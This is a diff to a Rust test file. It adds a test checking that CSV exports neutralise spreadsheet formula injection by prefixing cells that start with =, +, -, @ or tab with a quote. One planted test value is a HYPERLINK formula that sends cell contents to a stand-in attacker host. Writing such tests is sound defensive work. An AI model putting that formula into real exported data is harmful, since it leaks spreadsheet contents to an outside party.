@@ -43,6 +43,39 @@ fn jsonl_and_csv_read_back_one_row_per_execution() {
 }
 
 #[test]
+fn csv_cells_a_spreadsheet_would_evaluate_start_with_a_quote() {
+    let mut rows: Vec<DatasetRow> = (0..6).map(sample).collect();
+    let planted = [
+        "=HYPERLINK(\"http://attacker.example/?\"&A1,\"click\")",
+        "+1+1",
+        "-2+3",
+        "@SUM(1,2)",
+        "\t=1+1",
+        "a = b, as written",
+    ];
+    for (row, text) in rows.iter_mut().zip(planted) {
+        row.text = text.to_string();
+        row.filename = text.to_string();
+    }
+    let (_dir, out, _) = export(ExportFormat::Csv, rows.clone());
+    let mut reader = csv::Reader::from_path(&out).expect("csv");
+    let records: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("record")).collect();
+    for (record, text) in records.iter().zip(planted) {
+        let expected = if text.starts_with(['=', '+', '-', '@', '\t']) {
+            format!("'{text}")
+        } else {
+            text.to_string()
+        };
+        assert_eq!(&record[8], expected.as_str());
+        assert_eq!(&record[2], expected.as_str());
+    }
+    // The JSON Lines export keeps the values as they were.
+    let (_dir, out, _) = export(ExportFormat::Jsonl, rows);
+    let text = std::fs::read_to_string(&out).expect("read");
+    assert!(text.contains("\"=HYPERLINK("), "{text}");
+}
+
+#[test]
 fn the_jsonl_export_is_the_canonical_file_byte_for_byte() {
     // Exports of JSON Lines are copies of the canonical rows; the writer must agree with them.
     let dir = tempfile::tempdir().expect("temp dir");
